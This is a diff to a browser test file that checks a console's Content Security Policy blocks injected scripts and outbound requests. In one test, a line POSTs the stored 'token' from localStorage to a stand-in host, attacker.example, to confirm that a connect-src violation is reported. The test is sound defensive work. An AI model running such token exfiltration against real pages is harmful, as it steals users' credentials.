@@ -68,12 +68,17 @@ test('the console runs under its policy without a violation; injected scripts an
     return (window as unknown as { __injected?: boolean }).__injected ?? false;
   });
   expect(ran).toBe(false);
-  await page.evaluate(() => fetch('http://attacker.example/collect', { method: 'POST', body: localStorage.getItem('token') }).catch(() => undefined));
+  await page.evaluate(() =>
+    fetch('http://attacker.example/collect', { method: 'POST', body: localStorage.getItem('token') }).catch(() => undefined),
+  );
   const reported = () => violations.map((v) => /violation: (\S+)/.exec(v)?.[1]).filter(Boolean);
   await expect.poll(reported).toEqual(['script-src-elem', 'connect-src']);
 });
 
-for (const [name, url] of [['auth', authUrl], ['api', apiUrl]] as const) {
+for (const [name, url] of [
+  ['auth', authUrl],
+  ['api', apiUrl],
+] as const) {
   test(`/docs of the ${name} server renders under its policy without a violation`, async ({ page }) => {
     const violations = await watchViolations(page);
     const response = await page.goto(`${url}/docs`);
